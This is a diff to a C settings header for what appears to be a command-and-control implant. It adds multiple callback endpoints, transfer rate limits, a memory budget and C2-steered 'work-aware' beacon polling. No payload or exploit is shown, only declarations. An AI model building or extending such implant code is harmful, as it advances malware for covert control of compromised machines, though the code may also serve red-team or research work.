@@ -2,9 +2,13 @@
 #define SETTINGS_H
 
 #include <netinet/in.h>
+#include <stdbool.h>
 #include <stdint.h>
 #include <time.h>
 
+#include "endpoint.h"
+#include "ratelimit.h"
+
 enum modes
 {
     BEACON = 0,
@@ -18,19 +22,57 @@ enum settings_flags
     CALLBACK = 4,
     MODE = 16,
     SEED = 32,
+    RATE_LIMIT = 64,       /**< [u64 rate][u64 burst] for all transfers together, see ratelimit.h */
+    TASK_RATE_LIMIT = 128, /**< [u64 rate][u64 burst] for each transfer on its own */
+    POLL_BOUNDS = 256,     /**< [u32 min_ms][u32 max_ms] a DISCONNECT's delay is clamped to, see poll_t */
+    MEM_BUDGET = 512,      /**< [u64 bytes] for the implant's large buffers, 0 for no limit, see mem.h */
 };
 
+enum disconnect_flags
+{
+    MORE_WORK = 1, /**< The C2 expects more tasks soon, [u32 delay_ms] asks for the next callback that much later */
+};
+
+/**
+ * Work-aware polling. The DISCONNECT that ends a session may carry MORE_WORK and a delay, the next callback then comes
+ * after that delay, clamped to the bounds and never later than the interval would have it. Every session after that
+ * which ends without the hint doubles the delay, until the interval takes over again.
+ */
+typedef struct
+{
+    uint32_t min_delay_ms;
+    uint32_t max_delay_ms; /**< 0 ignores the hints */
+    uint32_t delay_ms;     /**< Before the next callback, 0 while callbacks follow the interval */
+    bool b_hinted;         /**< The last session's DISCONNECT set delay_ms */
+} poll_t;
+
 typedef struct
 {
     uint32_t guid[4];
     struct timespec next_callback;
     struct timespec interval;
     struct timespec window;
-    struct sockaddr_in callback_location;
+    endpoint_table_t callbacks;
     uint8_t mode;
     uint32_t seed;
+    ratelimit_t rate_limit; /**< Global bucket, its state carries over between tasks. */
+    ratelimit_config_t task_rate_limit;
+    poll_t poll;
+    uint64_t mem_budget; /**< At least MEM_MIN_BUDGET unless 0 */
 } settings_t;
 
 int8_t settings_update(uint16_t flags, settings_t *p_src, settings_t *p_dest);
 
+/**
+ * @brief Take the hint of the DISCONNECT that ended a session.
+ * @param flags The DISCONNECT's flags, without MORE_WORK the delay decays instead
+ */
+void settings_poll_hint(poll_t *p_poll, uint16_t flags, uint32_t delay_ms);
+
+/**
+ * @brief The delay before the next callback, decayed unless the last session left a hint. Called once per callback.
+ * @return uint32_t Milliseconds, 0 when the next callback follows the interval
+ */
+uint32_t settings_poll_delay(poll_t *p_poll, struct timespec interval);
+
 #endif